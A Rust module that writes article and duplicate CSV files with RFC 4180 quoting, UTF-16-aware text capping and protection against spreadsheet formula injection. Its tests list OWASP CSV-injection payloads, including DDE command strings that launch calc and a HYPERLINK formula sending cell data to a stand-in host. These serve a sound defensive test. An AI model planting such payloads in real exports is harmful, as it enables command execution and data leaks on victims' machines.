//! CSV writers: `articles.csv` (RFC 4180, UTF-8, embedded newlines kept in quoted cells, cells
//! neutralized against formula injection) and `duplicates.csv`.

use super::staging::StagedFile;
use super::{OutputArticle, OutputConfig};
use crate::error::{Error, Result};
use std::borrow::Cow;

/// Columns of `articles.csv`, in order.
pub const ARTICLE_COLUMNS: [&str; 10] = [
    "id",
    "source",
    "url",
    "site",
    "title",
    "date",
    "text",
    "word_count",
    "content_hash",
    "text_truncated",
];

fn opt(o: &Option<String>) -> &str {
    o.as_deref().unwrap_or_default()
}

/// Prefixes a cell that a spreadsheet would run as a formula with `'`.
pub fn neutralize(cell: &str) -> Cow<'_, str> {
    match cell.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => Cow::Owned(format!("'{cell}")),
        _ => Cow::Borrowed(cell),
    }
}

/// `text` cut to at most `max_units` UTF-16 code units (Excel counts a cell's length in UTF-16
/// units, so an emoji counts twice), leaving room for the `'` neutralization may add; returns
/// whether it was cut.
fn cap_text(text: &str, max_units: usize, neutralized: bool) -> (&str, bool) {
    if max_units == 0 {
        return (text, false);
    }
    let budget = if neutralized {
        max_units.saturating_sub(1)
    } else {
        max_units
    };
    // Every UTF-8 byte is at most one UTF-16 unit: short texts need no counting.
    if text.len() <= budget {
        return (text, false);
    }
    let mut units = 0;
    for (byte, c) in text.char_indices() {
        units += c.len_utf16();
        if units > budget {
            return (&text[..byte], true);
        }
    }
    (text, false)
}

/// Renders the rows of `articles.csv`. Rows are rendered where the article is cleaned (in the
/// parallel map), so writing the file is only copying bytes.
#[derive(Debug, Clone)]
pub struct ArticleCsvRows {
    neutralize: bool,
    max_text_chars: usize,
}

impl ArticleCsvRows {
    /// Rows as configured.
    pub fn new(cfg: &OutputConfig) -> Self {
        ArticleCsvRows {
            neutralize: cfg.csv_neutralize_formulas,
            max_text_chars: cfg.csv_max_text_chars,
        }
    }

    /// The start of the file: a BOM when configured, and the header row.
    pub fn header(cfg: &OutputConfig) -> Vec<u8> {
        let mut out = Vec::new();
        if cfg.csv_bom {
            out.extend_from_slice("\u{feff}".as_bytes());
        }
        push_row(&mut out, ARTICLE_COLUMNS.iter().copied());
        out
    }

    /// Appends the row of one article (RFC 4180, CRLF-terminated) to `out`.
    pub fn render(&self, a: &OutputArticle, out: &mut Vec<u8>) {
        let word_count = a.word_count.to_string();
        let neutralized = self.neutralize && neutralize(&a.text).len() != a.text.len();
        let (text, truncated) = cap_text(&a.text, self.max_text_chars, neutralized);
        let cells: [&str; 10] = [
            &a.id,
            &a.source,
            opt(&a.url),
            opt(&a.site),
            opt(&a.title),
            opt(&a.date),
            text,
            &word_count,
            &a.content_hash,
            if truncated { "true" } else { "false" },
        ];
        // Quotes around the cells that need them and a doubled quote here and there: the row
        // rarely outgrows this, and growing it would copy the text.
        out.reserve(cells.iter().map(|c| c.len() + 3).sum::<usize>() + text.len() / 32 + 16);
        let neutralize_on = self.neutralize;
        push_row(
            out,
            cells.iter().map(|c| {
                if neutralize_on {
                    neutralize(c)
                } else {
                    Cow::Borrowed(*c)
                }
            }),
        );
    }
}

/// Appends one CSV record: cells quoted only when they hold a quote, comma, CR or LF (the csv
/// crate's `QuoteStyle::Necessary`, which the reading tests use), quotes doubled, CRLF at the end.
fn push_row<S: AsRef<str>>(out: &mut Vec<u8>, cells: impl Iterator<Item = S>) {
    for (i, cell) in cells.enumerate() {
        if i > 0 {
            out.push(b',');
        }
        let cell = cell.as_ref().as_bytes();
        // memchr's searches: the text cell is most of a row, and a byte loop over it was most
        // of rendering it.
        if memchr::memchr3(b'"', b',', b'\n', cell).is_some()
            || memchr::memchr(b'\r', cell).is_some()
        {
            out.push(b'"');
            let mut from = 0;
            for quote in memchr::memchr_iter(b'"', cell) {
                out.extend_from_slice(&cell[from..=quote]);
                out.push(b'"');
                from = quote + 1;
            }
            out.extend_from_slice(&cell[from..]);
            out.push(b'"');
        } else {
            out.extend_from_slice(cell);
        }
    }
    out.extend_from_slice(b"\r\n");
}

/// Streams rendered rows into `articles.csv`.
pub struct ArticleCsvWriter {
    file: StagedFile,
}

impl ArticleCsvWriter {
    /// Starts the file with its header (and a BOM when configured).
    pub fn new(mut file: StagedFile, cfg: &OutputConfig) -> Result<Self> {
        file.write_all(&ArticleCsvRows::header(cfg))?;
        Ok(ArticleCsvWriter { file })
    }

    /// Writes one row rendered by [`ArticleCsvRows::render`].
    pub fn write_row(&mut self, row: &[u8]) -> Result<()> {
        self.file.write_all(row)
    }

    /// Finishes the file.
    pub fn finish(self) -> Result<()> {
        self.file.finish()
    }
}

fn csv_error(path: &std::path::Path, e: ::csv::Error) -> Error {
    Error::Write {
        path: path.to_path_buf(),
        source: std::io::Error::other(e.to_string()),
    }
}

/// One row of `duplicates.csv`.
#[derive(Debug, Clone, PartialEq, serde::Serialize, serde::Deserialize)]
pub struct DuplicateRow {
    /// The dropped article.
    pub id: String,
    /// The kept article it is a copy of.
    pub duplicate_of: String,
    /// Similarity behind the decision (1 for exact copies).
    pub similarity: f64,
    /// `exact`, `near` or `contained`.
    pub kind: String,
}

/// Writes `duplicates.csv` from its rows.
pub fn write_duplicates(file: StagedFile, rows: &[DuplicateRow], cfg: &OutputConfig) -> Result<()> {
    let path = file.path().to_path_buf();
    let mut csv = ::csv::WriterBuilder::new()
        .terminator(::csv::Terminator::CRLF)
        .from_writer(file);
    csv.write_record(["id", "duplicate_of", "similarity", "kind"])
        .map_err(|e| csv_error(&path, e))?;
    for row in rows {
        let similarity = format!("{:.4}", row.similarity);
        let cells = [
            row.id.as_str(),
            row.duplicate_of.as_str(),
            similarity.as_str(),
            row.kind.as_str(),
        ];
        let cells: Vec<Cow<str>> = cells
            .iter()
            .map(|c| {
                if cfg.csv_neutralize_formulas {
                    neutralize(c)
                } else {
                    Cow::Borrowed(*c)
                }
            })
            .collect();
        csv.write_record(cells.iter().map(|c| c.as_bytes()))
            .map_err(|e| csv_error(&path, e))?;
    }
    let file = csv.into_inner().map_err(|e| Error::Write {
        path,
        source: std::io::Error::other(e.to_string()),
    })?;
    file.finish()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn neutralizes_formula_starts_only() {
        for bad in ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"] {
            assert_eq!(neutralize(bad), format!("'{bad}"));
        }
        for ok in ["plain", "", " =not first", "1-2"] {
            assert_eq!(neutralize(ok), ok);
        }
    }

    proptest::proptest! {
        /// Whatever the cells hold, the csv crate reads the rendered row back cell for cell.
        #[test]
        fn rendered_rows_read_back(cells in proptest::collection::vec("[a-c\",\r\n =\u{e9}]{0,8}", 1..6)) {
            // A record of one empty cell is an empty line, which CSV readers skip.
            proptest::prop_assume!(cells != vec![String::new()]);
            let mut out = Vec::new();
            push_row(&mut out, cells.iter());
            let mut reader = ::csv::ReaderBuilder::new().has_headers(false).from_reader(&out[..]);
            let record = reader.records().next();
            let read: Vec<String> = match record {
                Some(Ok(r)) => r.iter().map(str::to_string).collect(),
                other => panic!("row {out:?} read as {other:?}"),
            };
            proptest::prop_assert_eq!(read, cells);
        }
    }

    #[test]
    fn caps_text_at_char_boundaries() {
        assert_eq!(cap_text("héllo", 3, false), ("hél", true));
        assert_eq!(cap_text("héllo", 5, false), ("héllo", false));
        assert_eq!(cap_text("=héllo", 4, true), ("=hé", true));
        assert_eq!(cap_text("anything", 0, false), ("anything", false));
        // An emoji is two UTF-16 units.
        assert_eq!(cap_text("a😀b", 2, false), ("a", true));
        assert_eq!(cap_text("a😀b", 3, false), ("a😀", true));
    }

    /// The payloads of OWASP's CSV injection page: each must reach the spreadsheet as text.
    #[test]
    fn owasp_payloads_are_neutralized() {
        let payloads = [
            "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://evil.test?leak=\"&A1,\"Error: click\")",
            "@SUM(1+9)*cmd|' /C calc'!A0",
            "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
            "\t=1+2",
            "\r=1+2",
        ];
        for p in payloads {
            let cell = neutralize(p);
            assert!(cell.starts_with('\''), "{p:?} -> {cell:?}");
            assert_eq!(&cell[1..], p, "the payload text itself is kept");
        }
    }
}
